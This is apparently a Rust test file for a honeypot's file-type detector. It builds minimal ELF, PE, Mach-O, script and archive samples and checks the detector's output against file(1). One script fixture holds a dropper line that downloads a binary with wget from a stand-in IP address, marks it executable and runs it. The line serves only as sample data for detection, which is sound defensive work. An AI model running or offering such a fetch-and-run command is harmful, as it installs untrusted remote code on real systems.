//! File types against file(1): the machine's own executables and libraries, headers built
//! here for the machines IoT malware is built for (ELF 32/64-bit, both byte orders), PE32
//! and PE32+ EXE and DLL, Mach-O, scripts and archives: the first word of our description
//! is file(1)'s, and the class, byte order and machine words agree where file(1) names them.

mod common;

use common::{have, skip, TempDir};
use honeytrap::pipeline::analysis::filetype::{describe, is_executable};
use std::path::Path;
use std::process::Command;

fn file_says(path: &Path) -> String {
    let out = Command::new("file").arg("-b").arg(path).output().unwrap();
    String::from_utf8_lossy(&out.stdout).trim().to_string()
}

fn first_word(s: &str) -> &str {
    s.split([' ', ',']).next().unwrap_or("")
}

/// A minimal ELF header (64 bytes) of `class` (1, 2), byte order (1 LSB, 2 MSB), type and
/// machine.
fn elf(class: u8, order: u8, e_type: u16, machine: u16) -> Vec<u8> {
    let mut h = vec![0u8; 64];
    h[..4].copy_from_slice(b"\x7fELF");
    h[4] = class;
    h[5] = order;
    h[6] = 1;
    let put = |h: &mut Vec<u8>, at: usize, v: u16| {
        let b = if order == 1 { v.to_le_bytes() } else { v.to_be_bytes() };
        h[at..at + 2].copy_from_slice(&b);
    };
    put(&mut h, 16, e_type);
    put(&mut h, 18, machine);
    h[20] = if order == 1 { 1 } else { 0 };
    h[23] = if order == 1 { 0 } else { 1 };
    h
}

/// A minimal PE: MS-DOS header, PE signature, COFF header and optional header.
fn pe(machine: u16, plus: bool, dll: bool, subsystem: u16) -> Vec<u8> {
    let mut d = vec![0u8; 0x200];
    d[..2].copy_from_slice(b"MZ");
    d[0x3c..0x40].copy_from_slice(&0x80u32.to_le_bytes());
    d[0x80..0x84].copy_from_slice(b"PE\0\0");
    d[0x84..0x86].copy_from_slice(&machine.to_le_bytes());
    d[0x86..0x88].copy_from_slice(&1u16.to_le_bytes());
    let opt_size: u16 = if plus { 240 } else { 224 };
    d[0x94..0x96].copy_from_slice(&opt_size.to_le_bytes());
    let chars: u16 = 0x0102 | if dll { 0x2000 } else { 0 };
    d[0x96..0x98].copy_from_slice(&chars.to_le_bytes());
    d[0x98..0x9a].copy_from_slice(&(if plus { 0x20bu16 } else { 0x10b }).to_le_bytes());
    d[0x98 + 68..0x98 + 70].copy_from_slice(&subsystem.to_le_bytes());
    d
}

fn macho(magic: u32, cpu: u32, kind: u32) -> Vec<u8> {
    let mut d = Vec::new();
    d.extend_from_slice(&magic.to_be_bytes());
    let le = matches!(magic, 0xcefa_edfe | 0xcffa_edfe);
    for v in [cpu, 3, kind, 0, 0, 0, 0] {
        d.extend_from_slice(&if le { v.to_le_bytes() } else { v.to_be_bytes() });
    }
    d
}

#[test]
fn first_words_agree_with_file() {
    if !have("file") {
        skip(&common::this_test(), "needs the `file` command");
        return;
    }
    let dir = TempDir::new("filetype");
    let mut cases: Vec<(String, Vec<u8>)> = Vec::new();
    for (class, order) in [(1u8, 1u8), (1, 2), (2, 1), (2, 2)] {
        for machine in [2u16, 3, 4, 8, 20, 21, 22, 40, 42, 43, 62, 183, 243] {
            for e_type in [1u16, 2, 3] {
                cases.push((format!("elf-{class}-{order}-{machine}-{e_type}"), elf(class, order, e_type, machine)));
            }
        }
    }
    for machine in [0x014cu16, 0x8664, 0x01c0, 0xaa64] {
        for (plus, dll, sub) in [(false, false, 2u16), (false, true, 2), (true, false, 3), (true, true, 3)] {
            cases.push((format!("pe-{machine:x}-{plus}-{dll}"), pe(machine, plus, dll, sub)));
        }
    }
    let mut dos = b"MZ".to_vec();
    dos.resize(0x100, 0x90);
    // Relocation table at 0x1c: a plain MS-DOS program, no new-style header.
    dos[0x18..0x1a].copy_from_slice(&0x1cu16.to_le_bytes());
    cases.push(("dos".into(), dos));
    for (magic, cpu, kind) in
        [(0xcffa_edfeu32, 0x0100_0007u32, 2u32), (0xcefa_edfe, 7, 2), (0xfeed_facf, 0x0100_0012, 6)]
    {
        cases.push((format!("macho-{magic:x}-{cpu:x}"), macho(magic, cpu, kind)));
    }
    for (name, text) in [
        ("sh", "#!/bin/sh\nwget http://198.51.100.7/x; chmod +x x; ./x\n"),
        ("bash", "#!/bin/bash\necho hi\n"),
        ("python", "#!/usr/bin/env python3\nimport os\nos.system('id')\n"),
        ("perl", "#!/usr/bin/perl\nprint 1;\n"),
    ] {
        cases.push((format!("script-{name}"), text.as_bytes().to_vec()));
    }
    let mut sevenz = b"7z\xbc\xaf\x27\x1c\x00\x04".to_vec();
    sevenz.resize(64, 0);
    cases.push(("7z".into(), sevenz));
    cases.push(("xz".into(), b"\xfd7zXZ\x00\x00\x04\xe6\xd6\xb4\x46".to_vec()));
    cases.push(("bz2".into(), b"BZh91AY&SY".to_vec()));
    let payload = dir.join("payload.txt");
    std::fs::write(&payload, "payload\n".repeat(100)).unwrap();
    for (name, cmd) in [("gz", "gzip -c payload.txt"), ("zip", "zip -q - payload.txt"), ("tar", "tar cf - payload.txt")]
    {
        if let Ok(out) = Command::new("sh").arg("-c").arg(cmd).current_dir(dir.path()).output() {
            if out.status.success() {
                cases.push((name.into(), out.stdout));
            }
        }
    }
    let mut upx = elf(1, 1, 2, 40);
    upx.extend_from_slice(b"\0\0\0\0UPX!\x0d\x16");
    cases.push(("upx".into(), upx));
    // The machine's own executables and libraries.
    for p in [
        "/bin/ls",
        "/bin/sh",
        "/usr/bin/file",
        "/lib/x86_64-linux-gnu/libc.so.6",
        "/usr/lib/x86_64-linux-gnu/libpcap.so.1",
    ] {
        if let Ok(b) = std::fs::read(p) {
            cases.push((p.trim_start_matches('/').replace('/', "-"), b));
        }
    }
    assert!(cases.len() > 180);
    for (name, data) in &cases {
        let path = dir.join(name);
        std::fs::write(&path, data).unwrap();
        let theirs = file_says(&path);
        let ours = describe(data).unwrap_or_else(|| panic!("{name}: no description; file says {theirs}"));
        assert_eq!(first_word(&ours), first_word(&theirs), "{name}: ours {ours:?}, file {theirs:?}");
        if theirs.starts_with("ELF") {
            // Class, byte order and the machine as file(1) names it.
            let mut t = theirs.split(", ");
            let head = t.next().unwrap();
            let words: Vec<&str> = head.split(' ').take(3).collect();
            assert!(ours.starts_with(&words.join(" ")), "{name}: ours {ours:?}, file {theirs:?}");
            let machine = t.next().unwrap();
            assert!(
                ours.contains(&format!(", {machine}")) || machine.starts_with(ours.split(", ").nth(1).unwrap()),
                "{name}: ours {ours:?}, file {theirs:?}"
            );
        }
        if theirs.starts_with("PE32") {
            let machine = theirs.split(") ").last().unwrap().split(',').next().unwrap();
            assert!(
                ours.contains(machine.trim_start_matches("(GUI) ").trim_start_matches("(console) ")),
                "{name}: ours {ours:?}, file {theirs:?}"
            );
            assert_eq!(ours.contains("(DLL)"), theirs.contains("(DLL)"), "{name}");
        }
    }
    assert!(is_executable(&std::fs::read("/bin/ls").unwrap()));
    assert!(!is_executable(b"#!/bin/sh\n"));
}
